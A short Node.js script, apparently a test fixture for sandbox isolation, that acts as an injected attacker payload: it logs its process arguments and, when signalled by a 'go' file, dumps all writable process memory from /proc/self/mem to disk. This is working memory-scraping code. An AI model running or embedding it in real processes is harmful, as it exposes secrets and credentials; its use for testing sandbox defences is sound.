// What an attacker gets into a Node process by --require or --import: it notes where it ran, and copies the process's
// memory to the folder that it lies in when a file `go` is there.
const { existsSync, openSync, readFileSync, readSync, writeFileSync, writeSync } = require("node:fs")
const { isMainThread } = require("node:worker_threads")

if (isMainThread) {
  const loot = __dirname
  try {
    writeFileSync(`${loot}/ran-${process.pid}`, process.argv.join("\0"))
  } catch {
    // There is no such folder in a jail.
  }
  const timer = setInterval(() => {
    if (!existsSync(`${loot}/go`)) return
    clearInterval(timer)
    const memory = openSync("/proc/self/mem", "r")
    const dump = openSync(`${loot}/dump-${process.pid}`, "w")
    const piece = Buffer.alloc(2 ** 20)
    for (const line of readFileSync("/proc/self/maps", "latin1").split("\n")) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? []
      for (let at = BigInt(`0x${from ?? 0}`); from && at < BigInt(`0x${to}`); at += BigInt(piece.length)) {
        const left = Number(BigInt(`0x${to}`) - at)
        try {
          writeSync(dump, piece, 0, readSync(memory, piece, 0, Math.min(left, piece.length), at))
        } catch {
          break
        }
      }
    }
    writeFileSync(`${loot}/done`, "")
  }, 20).unref()
}
